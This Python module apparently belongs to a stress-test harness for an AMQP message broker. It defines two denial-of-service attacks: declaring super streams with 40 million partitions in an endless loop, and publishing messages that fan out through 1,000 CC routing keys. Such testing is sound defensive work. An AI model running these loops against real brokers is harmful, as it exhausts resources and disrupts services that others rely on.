"""What a user who may declare does with numbers: huge ones, wherever one is taken."""

from __future__ import annotations

import contextlib
import itertools

from target import Target

from support.wire import raw
from support.wire.raw_codec import method


def attack_partitions(target: Target) -> None:
    """Super streams of 40 million partitions, declared and consumed again and again."""
    for number in itertools.count():
        if target.over:
            return
        with contextlib.suppress(OSError, raw.Closed, AssertionError), target.log_in() as one:
            one.open_channel(1)
            name = f"super-{number}"
            one.send(
                method(
                    1, "exchange.declare", exchange=name, type="x-super-stream",
                    arguments={"x-super-stream-partitions": 40_000_000},
                ),
                method(1, "basic.consume", queue=name, consumer_tag="c"),
            )  # fmt: skip
            while not target.over:
                one.next_method()


def attack_copies(target: Target) -> None:
    """Publishes with 1,000 routing keys in CC to a topic exchange with 1,000 bindings."""
    keys = [f"k{number}" for number in range(1000)]
    with contextlib.suppress(OSError, raw.Closed, AssertionError), target.log_in() as one:
        one.open_channel(1)
        one.declare(1, "copied", durable=False, arguments={"x-max-length": 1})
        for key in keys:
            one.call(1, "queue.bind", queue="copied", exchange="amq.topic", routing_key=f"#.{key}")
        while not target.over:
            one.send(raw.publish(1, "amq.topic", "k0", b"m", headers={"CC": keys}))
            target.nap(0.05)
